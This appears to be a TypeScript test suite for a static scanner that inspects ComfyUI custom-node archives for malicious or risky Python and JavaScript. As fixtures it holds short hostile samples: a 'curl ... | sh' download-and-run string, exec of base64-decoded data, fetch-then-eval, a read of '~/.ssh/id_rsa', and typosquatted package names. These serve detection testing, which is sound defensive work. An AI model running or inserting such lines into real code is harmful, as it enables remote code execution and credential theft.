import { strToU8, zipSync, type Zippable } from 'fflate'

import { checkArchive, DEFAULT_ARCHIVE_LIMITS, type CheckedArchive } from './archive'
import type { Finding } from './findings'
import { codeNames, imitatedPackage, parseRequirement, scanArchive, type ScanOptions } from './scan'
import { FALSE_ALARM_LOOK_ALIKES, SCAN_FIXTURES } from './scan-fixtures'
import { SCAN_RULES, type ScanRule } from './scan-rules'
import { STANDARDS, STANDARDS_URL } from './standards'
import { incompressibleText } from './test-zips'

const LIMITS = { ...DEFAULT_ARCHIVE_LIMITS, maxArchiveBytes: 50 * 1024 * 1024 }
const RULES: readonly ScanRule[] = SCAN_RULES

/** Every regex of a rule. */
function patternsOf(rule: ScanRule): RegExp[] {
  if (rule.kind === 'file') return [rule.path]
  if (rule.kind === 'dependency') return []
  return [
    ...(rule.lines ?? []).flatMap((matcher) => [...matcher.all, ...(matcher.unless ?? [])]),
    ...(rule.flows ?? []).flatMap((flow) => [flow.source, flow.sink]),
    ...(rule.fileRequires ? [rule.fileRequires] : []),
  ]
}

function archiveOf(files: Record<string, string | Uint8Array>): CheckedArchive {
  const zippable: Zippable = { '__init__.py': strToU8('') }
  for (const [name, content] of Object.entries(files)) {
    zippable[name] = typeof content === 'string' ? strToU8(content) : content
  }
  const checked = checkArchive(zipSync(zippable, { level: 1 }), LIMITS)
  if (!checked.ok) throw new Error(JSON.stringify(checked.findings))
  return checked.archive
}

function scan(
  files: Record<string, string | Uint8Array>,
  dependencies: string[] = [],
  options?: ScanOptions,
) {
  return scanArchive(archiveOf(files), dependencies, options)
}

/** Scans with the modules ComfyUI imports (archive paths; the test archives have no folder). */
function scanImported(files: Record<string, string>, imported: string[]) {
  return scan(files, [], { reachable: new Set(imported) })
}

function idsAndLines(findings: Finding[]): [string, number, string][] {
  return findings.map((finding) => [finding.issue_type, finding.line_number, finding.severity])
}

function ids(findings: Finding[]): string[] {
  return findings.map((finding) => finding.issue_type)
}

describe('scan rules and their fixtures', () => {
  const ruleIds = SCAN_RULES.map((rule) => rule.id)

  it('has unique rule ids and a fixture pair for every rule, and no stray fixture', () => {
    expect(new Set(ruleIds).size).toBe(ruleIds.length)
    for (const id of ruleIds) {
      const fixture = SCAN_FIXTURES[id]
      expect(fixture?.malicious).toBeDefined()
      expect(fixture?.harmless).toBeDefined()
    }
    expect(Object.keys(SCAN_FIXTURES).sort()).toEqual([...ruleIds].sort())
  })

  it.each(ruleIds)('%s: reports the malicious sample', (id) => {
    const fixture = SCAN_FIXTURES[id]
    const rule = SCAN_RULES.find((candidate) => candidate.id === id)
    const { findings } = scan({ [fixture.file]: fixture.malicious })
    const found = findings.filter((finding) => finding.issue_type === id)
    expect(found.length).toBeGreaterThan(0)
    for (const finding of found) {
      expect(finding.file_path).toBe(fixture.file)
      expect(finding.severity).toBe(rule?.severity)
      expect(finding.scanner).toBe(rule?.kind === 'dependency' ? 'dependency-scan' : 'static-scan')
      expect(finding.message.length).toBeGreaterThan(10)
      // The standard it enforces, shown with the finding.
      expect(finding.kind).toBe(rule?.outcome)
      expect(finding.standard).toEqual(rule && STANDARDS[rule.standard])
      expect(finding.standard?.url).toBe(STANDARDS_URL)
      if (rule?.kind !== 'file') {
        expect(finding.line_number).toBeGreaterThan(0)
        expect(finding.code_snippet.length).toBeGreaterThan(0)
        expect(finding.code_snippet.length).toBeLessThanOrEqual(200)
      }
    }
  })

  it.each(ruleIds)('%s: leaves the harmless look-alike alone', (id) => {
    const fixture = SCAN_FIXTURES[id]
    const { findings, filesScanned } = scan({ [fixture.file]: fixture.harmless })
    expect(findings).toEqual([])
    expect(filesScanned).toBeGreaterThan(0)
  })

  describe.each(FALSE_ALARM_LOOK_ALIKES)('look-alike: $what', ({ files, imported, expected }) => {
    const { findings } = scanImported(files, imported)
    it.each(ruleIds)('%s reports what it should', (id) => {
      const severities = findings
        .filter((finding) => finding.issue_type === id)
        .map((finding) => finding.severity)
      expect(severities).toEqual(expected[id] ?? [])
    })
    it('reports nothing else', () => {
      expect(
        findings.filter((finding) => !ruleIds.some((id) => id === finding.issue_type)),
      ).toEqual([])
    })
  })

  it('uses no stateful (g/y) regexes', () => {
    const patterns = RULES.flatMap(patternsOf)
    expect(patterns.length).toBeGreaterThan(10)
    for (const pattern of patterns) expect(pattern.flags).not.toMatch(/[gy]/)
  })
})

describe('static scan: how code is read', () => {
  it('reads a multi-line call as one line and reports the physical line of the match', () => {
    const { findings } = scan({
      'video.py': `import subprocess


def convert(path):
    subprocess.run(
        "ffmpeg -i " + path,
        shell=True,
    )
`,
    })
    expect(findings).toMatchObject([
      {
        issue_type: 'shell-command-from-string',
        line_number: 7,
        code_snippet: 'shell=True,',
      },
    ])
  })

  it('counts class bodies and module-level blocks as import time, not def bodies or __main__', () => {
    const { findings } = scan({
      'a.py': `import os

class Loader:
    os.system("id")

    def run(self):
        os.system("id")

if __name__ == "__main__":
    os.system("id")

def later():
    pass
os.popen("id")
`,
    })
    expect(findings.map((finding) => [finding.issue_type, finding.line_number])).toEqual([
      ['import-time-subprocess', 4],
      ['import-time-subprocess', 14],
    ])
  })

  it('ignores comments but not strings', () => {
    expect(
      scan({ 'a.py': '# exec(base64.b64decode(x))\nx = 1  # os.system("id")\n' }).findings,
    ).toEqual([])
    expect(ids(scan({ 'a.py': 'CMD = "curl -s https://x.invalid/i | sh"\n' }).findings)).toEqual([
      'download-exec',
    ])
  })

  it('follows a decoded value into exec, and a fetched text into new Function', () => {
    expect(
      ids(scan({ 'a.py': 'import marshal\nblob = marshal.loads(DATA)\nexec(blob)\n' }).findings),
    ).toEqual(['exec-decoded-payload'])
    expect(
      ids(
        scan({
          'web/a.js':
            'const code = await (await fetch(URL)).text()\nconst run = new Function(code)\n',
        }).findings,
      ),
    ).toEqual(['download-exec'])
    expect(
      ids(scan({ 'web/b.js': 'fetch(u).then((r) => r.text()).then(eval)\n' }).findings),
    ).toEqual(['download-exec'])
    expect(ids(scan({ 'web/c.mjs': 'eval(atob("YWxlcnQoMSk="))\n' }).findings)).toEqual([
      'exec-decoded-payload',
    ])
  })

  it('names the full entry path when the package is one folder down', () => {
    const bytes = zipSync({
      'node-main/__init__.py': strToU8('import os\nos.system("id")\n'),
    })
    const checked = checkArchive(bytes, LIMITS)
    if (!checked.ok) throw new Error('the archive should pass')
    expect(scanArchive(checked.archive, []).findings).toMatchObject([
      { issue_type: 'import-time-subprocess', file_path: 'node-main/__init__.py', line_number: 2 },
    ])
  })
})

describe('static scan: what ComfyUI runs', () => {
  const NODE = 'NODE_CLASS_MAPPINGS = {}\n'
  const POPEN = 'import subprocess\n\nsubprocess.Popen(["git", "status"])\n'

  it('reports a top-level process in an imported module, not in a script ComfyUI never imports', () => {
    const files = {
      '__init__.py': `from . import helper\n${NODE}`,
      'helper.py': POPEN,
      'tools/release.py': POPEN,
    }
    expect(idsAndLines(scanImported(files, ['__init__.py', 'helper.py']).findings)).toEqual([
      ['import-time-subprocess', 3, 'high'],
    ])
    expect(scanImported(files, ['__init__.py', 'helper.py']).findings[0].file_path).toBe(
      'helper.py',
    )
  })

  it("does not count an imported module's __main__ block as import time", () => {
    const files = {
      'helper.py':
        'import subprocess\n\nif __name__ == "__main__":\n    subprocess.Popen(["git", "status"])\n',
      'other.py': "import os\n\nif '__main__' == __name__:\n    os.system('make')\n",
    }
    expect(scanImported(files, ['__init__.py', 'helper.py', 'other.py']).findings).toEqual([])
  })

  it('treats every file as imported when the import graph is unknown (null)', () => {
    const files = { 'release.py': POPEN }
    expect(ids(scan(files, [], { reachable: null }).findings)).toEqual(['import-time-subprocess'])
    expect(ids(scan(files).findings)).toEqual(['import-time-subprocess'])
  })

  it('keeps payload rules at full severity in files ComfyUI never imports', () => {
    const files = {
      'scripts/setup_env.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
      'tools/steal.py': 'import os\np = os.path.expanduser("~/.ssh/id_rsa")\n',
      'models/hook.pth': 'import os\n',
      'dev/minified.py': `x = ${'1+'.repeat(6000)}1\n`,
    }
    const { findings } = scanImported(files, ['__init__.py'])
    expect(findings.map((f) => [f.issue_type, f.severity, f.file_path]).sort()).toEqual(
      [
        ['credential-theft', 'critical', 'tools/steal.py'],
        ['exec-decoded-payload', 'critical', 'scripts/setup_env.py'],
        ['minified-or-obfuscated', 'low', 'dev/minified.py'],
        ['pth-file', 'high', 'models/hook.pth'],
      ].sort(),
    )
    const minified = findings.find((f) => f.issue_type === 'minified-or-obfuscated')
    expect(minified).toMatchObject({ kind: 'standard', standard: STANDARDS.noObfuscation })
  })

  it('reports pip installs at import time and at run time in imported modules only', () => {
    const pip =
      'import subprocess, sys\n\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])\n\ndef later():\n    subprocess.run(["pip", "install", "y"])\n'
    expect(
      idsAndLines(scanImported({ 'nodes.py': pip }, ['__init__.py', 'nodes.py']).findings),
    ).toEqual([
      ['import-time-pip-install', 3, 'high'],
      ['runtime-pip-install', 6, 'medium'],
    ])
    expect(scanImported({ 'install.py': pip }, ['__init__.py']).findings).toEqual([])
  })

  it('reports eval/exec as a standard, once, and not method calls or literal_eval', () => {
    const source = [
      'import ast, base64',
      'def run(self, expression, model):',
      '    model.eval()',
      '    ast.literal_eval(expression)',
      '    return eval(expression)',
      'exec(base64.b64decode("cHJpbnQoMSk="))',
      'blob = base64.b64decode(DATA)',
      'exec(blob)',
      '',
    ].join('\n')
    const { findings } = scanImported({ 'nodes.py': source }, ['__init__.py', 'nodes.py'])
    expect(idsAndLines(findings)).toEqual([
      ['eval-exec-call', 5, 'medium'],
      ['exec-decoded-payload', 6, 'critical'],
      ['exec-decoded-payload', 8, 'critical'],
    ])
    expect(findings[0]).toMatchObject({ kind: 'standard', standard: STANDARDS.noEvalExec })
    expect(findings[1]).toMatchObject({ kind: 'malicious', standard: STANDARDS.noEvalExec })
    // Not in a module ComfyUI imports: a standard about what the node runs does not apply.
    expect(ids(scanImported({ 'nodes.py': source }, ['__init__.py']).findings)).toEqual([
      'exec-decoded-payload',
      'exec-decoded-payload',
    ])
  })
})

describe('static scan: shell commands built from strings', () => {
  const severityOf = (source: string) =>
    scan({ 'run.py': source }).findings.map((finding) => [finding.issue_type, finding.severity])

  it.each([
    ['a node input (a parameter)', 'def run(self, name):\n    os.system(f"echo {name}")\n'],
    [
      'a parameter, concatenated',
      'def run(self, path):\n    subprocess.run("unzip " + path, shell=True)\n',
    ],
    [
      'an environment value',
      'def run():\n    home = os.environ.get("HOME")\n    os.system(f"ls {home}")\n',
    ],
    [
      'an environment value at module level',
      'HOME = os.getenv("HOME")\ndef run():\n    os.system(f"ls {HOME}")\n',
    ],
    [
      'a value derived from one',
      'def run(self, name):\n    target = os.path.join("/tmp", name)\n    subprocess.call(f"rm {target}", shell=True)\n',
    ],
    [
      'a download',
      'def run():\n    url = requests.get(API).json()["url"]\n    os.system(f"curl -O {url}")\n',
    ],
    [
      'the terminal',
      'def run():\n    answer = input("file? ")\n    os.system("cat %s" % answer)\n',
    ],
    ['the command line', 'def main():\n    name = sys.argv[1]\n    os.system(f"echo {name}")\n'],
    ['an inline environment read', 'def run():\n    os.system(f"ls {os.environ[\'HOME\']}")\n'],
    [
      'a parameter of a plain function in a file that defines nodes',
      'def probe(cmd):\n    return subprocess.call(f"which {cmd}", shell=True)\n\nclass Probe:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {"cmd": ("STRING",)}}\n',
    ],
  ])('is high when %s flows in', (_what, source) => {
    expect(severityOf(source)).toEqual([['shell-command-from-string', 'high']])
  })

  it.each([
    [
      'a path under a folder found by another function',
      'def run():\n    home = find_cuda()\n    path = os.path.join(home, "bin", "nvcc")\n    subprocess.check_output(f\'"{path}" -V\', shell=True)\n',
    ],
    ['constants', 'TOOL = "ffmpeg"\ndef run(self):\n    os.system(f"{TOOL} -version")\n'],
    [
      'an attribute (self.path)',
      'def run(self):\n    subprocess.run(f"ls {self.path}", shell=True)\n',
    ],
    [
      'a parameter of a plain function in a library file (a vendored `which`)',
      'def which(cmd):\n    return subprocess.call(f"which {cmd}", shell=True) == 0\n',
    ],
    [
      'text in the string that names a parameter',
      'def run(self, path):\n    os.system(f"echo path is fixed {VERSION}")\n',
    ],
  ])('is medium for %s', (_what, source) => {
    expect(severityOf(source)).toEqual([['shell-command-from-string', 'medium']])
  })

  it('reads the names of code and f-string fields, not of string text or attributes', () => {
    expect([...codeNames('run(f"a {b} {{c}} {d.e}" + g, "h {i}", x.y)')].sort()).toEqual(
      ['b', 'd', 'g', 'run', 'x'].sort(),
    )
  })
})

describe('dependency scan', () => {
  it('reads PEP 508 names', () => {
    expect(parseRequirement("Reqests[socks]>=2.0 ; python_version > '3.8'")).toEqual({
      name: 'reqests',
      outsidePypi: false,
    })
    expect(parseRequirement('Huggingface_Hub==0.20  # pinned')).toEqual({
      name: 'huggingface-hub',
      outsidePypi: false,
    })
    expect(parseRequirement('demo @ https://example.invalid/demo.whl')).toEqual({
      name: 'demo',
      outsidePypi: true,
    })
    expect(parseRequirement('git+https://github.com/a/b')).toEqual({
      name: null,
      outsidePypi: true,
    })
    expect(parseRequirement('-r other.txt')).toEqual({ name: null, outsidePypi: false })
    expect(parseRequirement('   # only a comment')).toEqual({ name: null, outsidePypi: false })
  })

  it.each([
    ['reqests', 'requests'],
    ['tdqm', 'tqdm'],
    ['opencv-pyhton', 'opencv-python'],
    ['safetensor', 'safetensors'],
    ['nunpy', 'numpy'],
  ])('flags %s as imitating %s', (name, target) => {
    expect(imitatedPackage(name)).toBe(target)
  })

  it.each(['requests', 'scapy', 'sympy', 'numba', 'torchx', 'pyaml', 'pynvml', 'flask', 'timm'])(
    'leaves %s alone',
    (name) => {
      expect(imitatedPackage(name)).toBeNull()
    },
  )

  it('checks the dependencies declared in pyproject and points at pyproject.toml', () => {
    const { findings } = scan({ 'pyproject.toml': '[project]\nname = "x"\n' }, [
      'torch>=2.0',
      'reqests[socks]>=2 ; python_version > "3"',
      'requesocks',
    ])
    expect(findings).toMatchObject([
      { issue_type: 'typosquat-dependency', file_path: 'pyproject.toml', line_number: 0 },
      { issue_type: 'known-malicious-dependency', file_path: 'pyproject.toml', line_number: 0 },
    ])
  })
})

describe('scan budgets', () => {
  it('reports a file over maxFileBytes without reading it', () => {
    const big = `DATA = "${incompressibleText(3 * 1024 * 1024)}"\n`
    const { findings, filesScanned } = scan({ 'big.py': big })
    expect(findings).toMatchObject([
      { issue_type: 'scan-file-too-large', severity: 'medium', file_path: 'big.py' },
    ])
    expect(filesScanned).toBe(1)
  })

  it('reports a source that is not UTF-8', () => {
    const { findings } = scan({ 'bad.py': new Uint8Array([0x70, 0xff, 0xfe, 0x0a]) })
    expect(findings).toMatchObject([{ issue_type: 'scan-not-text', file_path: 'bad.py' }])
  })

  it('survives pathological lines, scanning long ones in windows', () => {
    const long = 50_000
    const files = {
      'exec.py': 'exec('.repeat(long / 5),
      'brackets.py': '('.repeat(long) + '\n' + 'x = 1\n'.repeat(1000),
      'quotes.py': `x = ${'"'.repeat(long)}\n`,
      'assign.py': `a = ${'b = '.repeat(long / 4)}\n`,
      'spaces.js': `${' '.repeat(long)}x\n`,
      'minified.js': `${'var a=1;'.repeat(4000)}eval(atob("YWxlcnQoMSk="));${'var b=2;'.repeat(4000)}\n`,
      'curl.py': `x = "curl ${'a'.repeat(long)}"\n`,
    }
    const { findings } = scan(files)
    expect(findings).toContainEqual(
      expect.objectContaining({
        issue_type: 'minified-or-obfuscated',
        severity: 'low',
        file_path: 'minified.js',
        line_number: 1,
      }),
    )
    expect(findings).toContainEqual(
      expect.objectContaining({
        issue_type: 'exec-decoded-payload',
        file_path: 'minified.js',
        code_snippet: expect.stringContaining('eval(atob('),
      }),
    )
    for (const finding of findings) expect(finding.code_snippet.length).toBeLessThanOrEqual(200)
  })

  it('runs every rule regex over adversarial 10,000-character lines', () => {
    const lines = [
      'a'.repeat(10_000),
      ' '.repeat(10_000),
      'exec('.repeat(2_000),
      'x = '.repeat(2_500),
      '"\'+'.repeat(3_333),
      'curl '.repeat(2_000),
      'iex '.repeat(2_500),
      `x = ${'requests.'.repeat(1_100)}`,
    ]
    for (const rule of RULES) {
      const patterns = patternsOf(rule)
      for (const pattern of patterns) for (const line of lines) pattern.test(line)
    }
  })

  it('reports a file over its time budget, and an archive over its budget', () => {
    const files = { 'a.py': 'x = 1\n', 'b.py': 'y = 2\n' }
    expect(scan(files, [], { perFileMs: 0 }).findings).toMatchObject([
      { issue_type: 'scan-timeout', severity: 'medium', file_path: 'a.py' },
      { issue_type: 'scan-timeout', severity: 'medium', file_path: 'b.py' },
    ])
    const archive = scan(files, [], { perArchiveMs: 0 })
    expect(archive.findings).toMatchObject([
      { issue_type: 'scan-timeout', severity: 'medium', file_path: '' },
    ])
    expect(archive.filesScanned).toBe(0)
  })
})
